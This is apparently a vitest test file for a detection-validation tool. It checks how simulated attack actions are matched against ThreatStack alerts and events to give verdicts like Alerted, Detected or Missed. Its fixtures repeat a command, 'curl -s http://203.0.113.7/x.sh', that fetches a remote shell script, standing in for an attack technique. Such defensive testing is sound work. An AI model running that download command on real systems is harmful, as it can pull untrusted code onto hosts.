import { describe, expect, it } from 'vitest';
import type { TsAlert, TsAlertEvent } from '../../src/connectors/threatstack/types.ts';
import type { Action } from '../../src/validation/action.ts';
import { type CorrelationOptions, correlateAction } from '../../src/validation/correlate.ts';
import { EvidencePool } from '../../src/validation/evidence.ts';
import { applyPassRule, passRuleFor } from '../../src/validation/verdict.ts';
import { windowSettingsFrom } from '../../src/validation/window.ts';

const marker = 'vigil-00112233aabbccdd';
const action: Action = {
  id: 'act-1',
  technique: 'T1105',
  target: { agentId: 'agent-1', hostname: 'web-01', ips: ['10.0.0.5'], ports: [] },
  commandLine: 'curl -s http://203.0.113.7/x.sh',
  marker,
  startedAt: '2026-11-25T12:00:00.000Z',
  outcome: 'ran',
  source: 'simulator',
};
const settings = windowSettingsFrom({
  queryTimeMinutes: 5,
  delayTimeMinutes: 0,
  queryIntervalSeconds: 30,
  eventTimeAdjustmentSeconds: 0,
});
const options: CorrelationOptions = { settings, saveSuspiciousEvents: false, discoverDevices: false };

function event(id: string, fields: Partial<TsAlertEvent> = {}): TsAlertEvent {
  return {
    id,
    timestamp: '2026-11-25T12:00:00.020Z',
    eventType: 'audit',
    agentId: 'agent-1',
    hostname: 'web-01.internal',
    user: 'root',
    exe: '/usr/bin/curl',
    command: `curl -s http://203.0.113.7/x.sh # ${marker}`,
    args: null,
    pid: 4242,
    ppid: 1,
    srcIp: null,
    dstIp: null,
    dstPort: null,
    filename: null,
    syscall: 'execve',
    ruleId: null,
    alertId: null,
    ...fields,
  };
}

function alert(id: string, fields: Partial<TsAlert> = {}): TsAlert {
  return {
    id,
    title: 'Remote file download',
    createdAt: '2026-11-25T12:00:05.000Z',
    severity: 2,
    agentId: 'agent-1',
    ruleId: 'rule-1',
    rulesetId: 'rs-1',
    aggregates: [{ fieldName: 'hostname', fieldValue: 'web-01.internal' }],
    ...fields,
  };
}

function pool(alerts: Array<[TsAlert, TsAlertEvent[]]>, standalone: TsAlertEvent[] = []): EvidencePool {
  const evidence = new EvidencePool();
  for (const [a, events] of alerts) {
    evidence.addAlerts([a]);
    evidence.addAlertEvents(a.id, events);
  }
  evidence.addEvents(standalone);
  return evidence;
}

describe('verdicts', () => {
  it('Alerted: an alert on the host whose event carries the marker, with the evidence', () => {
    const result = correlateAction(
      action,
      pool([[alert('al-1'), [event('ev-1', { alertId: 'al-1' })]]]),
      options,
    );
    expect(result.verdict).toBe('Alerted');
    expect(result.result).toBe('passed');
    expect(result.evidence.alerts).toEqual([
      {
        alertId: 'al-1',
        ruleId: 'rule-1',
        createdAt: '2026-11-25T12:00:05.000Z',
        matched: ['agentId', 'hostname', 'time', 'marker', 'process'],
        eventIds: ['ev-1'],
      },
    ]);
    expect(result.evidence.events).toEqual([
      {
        eventId: 'ev-1',
        alertId: 'al-1',
        timestamp: '2026-11-25T12:00:00.020Z',
        matched: ['agentId', 'hostname', 'time', 'marker', 'process'],
      },
    ]);
  });

  it('Alerted from the command aggregate when the alert lists no events', () => {
    const bare = alert('al-2', {
      agentId: null,
      aggregates: [
        { fieldName: 'hostname', fieldValue: 'WEB-01' },
        { fieldName: 'command', fieldValue: `x # ${marker}` },
      ],
    });
    const result = correlateAction(action, pool([[bare, []]]), options);
    expect(result.verdict).toBe('Alerted');
    expect(result.evidence.alerts[0]?.matched).toEqual(['hostname', 'marker']);
  });

  it('Detected: a matching event without an alert, or whose alert lies outside the searched span', () => {
    expect(correlateAction(action, pool([], [event('ev-1')]), options).verdict).toBe('Detected');
    const late = alert('al-3', { createdAt: '2026-11-25T12:06:00.000Z' });
    const result = correlateAction(action, pool([[late, [event('ev-2', { alertId: 'al-3' })]]]), options);
    expect(result.verdict).toBe('Detected');
    expect(result.evidence.alerts).toEqual([]);
    expect(result.evidence.events.map((e) => [e.eventId, e.alertId])).toEqual([['ev-2', 'al-3']]);
  });

  it('Detected: the event joined an alert raised before it (aggregation), which is not its own', () => {
    // The alert was raised at 11:59:00 for another action; this action's event joined it at 12:00:00.020.
    const earlier = alert('al-4', { createdAt: '2026-11-25T11:59:00.000Z' });
    const other = event('ev-0', {
      alertId: 'al-4',
      timestamp: '2026-11-25T11:58:58.000Z',
      command: 'curl -s http://203.0.113.7/x.sh # vigil-ffffffffffffffff',
    });
    const joined = event('ev-5', { alertId: 'al-4' });
    const result = correlateAction(action, pool([[earlier, [other, joined]]]), options);
    expect(result.verdict).toBe('Detected');
    expect(result.evidence.alerts).toEqual([]);
    expect(result.evidence.events.map((e) => [e.eventId, e.alertId])).toEqual([['ev-5', 'al-4']]);
    // The same alert raised at the event (or after it) is the action's own: Alerted.
    const own = { ...earlier, createdAt: '2026-11-25T12:00:00.020Z' };
    expect(correlateAction(action, pool([[own, [other, joined]]]), options).verdict).toBe('Alerted');
  });

  it('Missed: nothing; Prevented: reported blocked, whatever the evidence', () => {
    expect(correlateAction(action, pool([]), options)).toMatchObject({ verdict: 'Missed', result: 'failed' });
    const blocked = { ...action, outcome: 'blocked' as const };
    expect(correlateAction(blocked, pool([]), options).verdict).toBe('Prevented');
    const withAlert = pool([[alert('al-1'), [event('ev-1', { alertId: 'al-1' })]]]);
    expect(correlateAction(blocked, withAlert, options)).toMatchObject({
      verdict: 'Prevented',
      result: 'passed',
    });
  });

  it('another host (agent id differs even if the name agrees) is unrelated evidence', () => {
    const elsewhere = event('ev-1', { agentId: 'agent-2' });
    const result = correlateAction(action, pool([], [elsewhere]), options);
    expect(result.verdict).toBe('Missed');
    expect(result.suspicious.events).toEqual([]);
  });

  it('matches by host IP and command line (no marker, no agent id), as imported actions do', () => {
    const imported: Action = {
      ...action,
      marker: undefined,
      target: { ips: ['10.0.0.5'], ports: [], hostname: 'db-9' },
    };
    const seen = event('ev-1', {
      agentId: null,
      hostname: null,
      srcIp: '10.0.0.5',
      command: 'curl  -s http://203.0.113.7/x.sh',
    });
    expect(correlateAction(imported, pool([], [seen]), options).evidence.events[0]?.matched).toEqual([
      'ip',
      'time',
      'commandLine',
      'process',
    ]);
    const byPid: Action = { ...imported, commandLine: undefined, processId: 4242 };
    expect(correlateAction(byPid, pool([], [seen]), options).evidence.events[0]?.matched).toEqual([
      'ip',
      'time',
      'processId',
    ]);
  });
});

describe('imported actions without a marker', () => {
  it('an event on the host with another command and pid fails on both', () => {
    const imported: Action = { ...action, marker: undefined, processId: 4242 };
    const other = event('ev-7', { command: 'ls /tmp', pid: 99, exe: '/bin/ls' });
    expect(correlateAction(imported, pool([], [other]), options).suspicious.events[0]?.failed).toEqual([
      { field: 'commandLine', expected: action.commandLine, actual: 'ls /tmp' },
      { field: 'processId', expected: '4242', actual: '99' },
    ]);
  });
});

describe('time and the event time adjustment', () => {
  const skewed = event('ev-1', { timestamp: '2026-11-25T11:50:00.020Z' });

  it('a vendor stamp 10 min behind is outside the span unless E corrects it', () => {
    expect(correlateAction(action, pool([], [skewed]), options).verdict).toBe('Missed');
    const corrected = { ...options, settings: { ...settings, eventTimeAdjustmentMs: 600_000 } };
    expect(correlateAction(action, pool([], [skewed]), corrected).verdict).toBe('Detected');
  });
});

describe('suspicious events', () => {
  const other = event('ev-9', { command: 'curl -s http://203.0.113.7/x.sh', exe: '/usr/bin/curl' });

  it('an event on the host in the span that fails the marker is suspicious, flagged with the setting', () => {
    const off = correlateAction(action, pool([], [other]), options);
    expect(off.suspicious.store).toBe(false);
    expect(off.suspicious.events).toHaveLength(1);
    expect(off.suspicious.events[0]).toMatchObject({
      eventId: 'ev-9',
      failed: [{ field: 'marker', expected: marker, actual: 'curl -s http://203.0.113.7/x.sh' }],
      matched: ['agentId', 'hostname', 'time', 'process'],
    });
    expect(
      correlateAction(action, pool([], [other]), { ...options, saveSuspiciousEvents: true }).suspicious.store,
    ).toBe(true);
  });

  it('a network event to another port than the target lists fails on the port', () => {
    const withPort: Action = { ...action, target: { ...action.target, ports: [443] } };
    const wrongPort = event('ev-3', { eventType: 'network', dstIp: '203.0.113.7', dstPort: 80 });
    const result = correlateAction(withPort, pool([], [wrongPort]), options);
    expect(result.verdict).toBe('Missed');
    expect(result.suspicious.events[0]?.failed).toEqual([{ field: 'port', expected: '443', actual: '80' }]);
  });
});

describe('de-duplication across overlapping windows', () => {
  it('keeps an alert and its events once, however often the windows return them', () => {
    const evidence = new EvidencePool();
    expect(evidence.addAlerts([alert('al-1'), alert('al-2')]).map((a) => a.id)).toEqual(['al-1', 'al-2']);
    expect(evidence.addAlerts([alert('al-2'), alert('al-1', { isDismissed: true })])).toEqual([]);
    evidence.addAlertEvents('al-1', [event('ev-1', { alertId: 'al-1' })]);
    evidence.addAlertEvents('al-1', [event('ev-1', { alertId: 'al-1' })]);
    evidence.addEvents([event('ev-1')]);
    const result = correlateAction(action, evidence, options);
    expect(result.evidence.alerts.map((a) => a.alertId)).toEqual(['al-1']);
    expect(result.evidence.events.map((e) => e.eventId)).toEqual(['ev-1']);
    expect(() => evidence.addAlertEvents('al-404', [])).toThrow(RangeError);
  });
});

describe('network device discovery', () => {
  const network = event('ev-4', {
    eventType: 'network',
    srcIp: '10.0.0.5',
    dstIp: '203.0.113.7',
    dstPort: 80,
    alertId: 'al-1',
  });

  it('returns unknown destination addresses as network_device entities only when discovery is on', () => {
    const evidence = pool([[alert('al-1'), [network]]]);
    expect(correlateAction(action, evidence, options).devices).toEqual([]);
    const devices = correlateAction(action, evidence, { ...options, discoverDevices: true }).devices;
    expect(devices).toEqual([
      {
        _key: 'device:203.0.113.7',
        _type: 'network_device',
        _class: 'Device',
        displayName: '203.0.113.7',
        properties: { ipAddress: '203.0.113.7', discoveredBy: 'validation', evidenceEventIds: ['ev-4'] },
      },
    ]);
    const known = { ...options, discoverDevices: true, knownHosts: { hostnames: [], ips: ['203.0.113.7'] } };
    expect(correlateAction(action, evidence, known).devices).toEqual([]);
  });

  it('names agentless hosts by hostname and skips loopback addresses', () => {
    const agentless = event('ev-5', {
      agentId: null,
      hostname: 'Router-7',
      srcIp: '10.0.0.5',
      dstIp: '127.0.0.1',
    });
    const byIp: Action = { ...action, target: { ...action.target, agentId: undefined } };
    const devices = correlateAction(byIp, pool([], [agentless]), {
      ...options,
      discoverDevices: true,
    }).devices;
    expect(devices.map((d) => [d._key, d.properties.hostname])).toEqual([['device:router-7', 'router-7']]);
  });
});

describe('pass rules', () => {
  it('per action, else per technique (then its parent), else the default, else either', () => {
    const rules = {
      byTechnique: { T1105: 'both' as const, T1059: 'prevented' as const },
      default: 'detected' as const,
    };
    expect(passRuleFor({ ...action, expected: 'prevented' }, rules)).toBe('prevented');
    expect(passRuleFor(action, rules)).toBe('both');
    expect(passRuleFor({ ...action, technique: 'T1059.004' }, rules)).toBe('prevented');
    expect(passRuleFor({ ...action, technique: 'T1046' }, rules)).toBe('detected');
    expect(passRuleFor(action)).toBe('either');
  });

  it.each([
    ['either', { prevented: false, alerted: false, seen: true }, 'passed'],
    ['either', { prevented: true, alerted: false, seen: false }, 'passed'],
    ['either', { prevented: false, alerted: false, seen: false }, 'failed'],
    ['prevented', { prevented: false, alerted: true, seen: true }, 'failed'],
    ['prevented', { prevented: true, alerted: false, seen: false }, 'passed'],
    ['detected', { prevented: true, alerted: false, seen: false }, 'failed'],
    ['detected', { prevented: false, alerted: true, seen: true }, 'passed'],
    ['both', { prevented: true, alerted: true, seen: true }, 'passed'],
    ['both', { prevented: true, alerted: false, seen: false }, 'failed'],
  ] as const)('%s with %o → %s', (rule, facts, expected) => {
    expect(applyPassRule(rule, facts, facts.prevented ? 'blocked' : 'ran')).toBe(expected);
  });

  it('an action that failed to run and shows nothing is inconclusive, not failed', () => {
    expect(applyPassRule('either', { prevented: false, alerted: false, seen: false }, 'failed')).toBe(
      'inconclusive',
    );
    expect(correlateAction({ ...action, outcome: 'failed' }, pool([]), options)).toMatchObject({
      verdict: 'Missed',
      result: 'inconclusive',
    });
  });
});
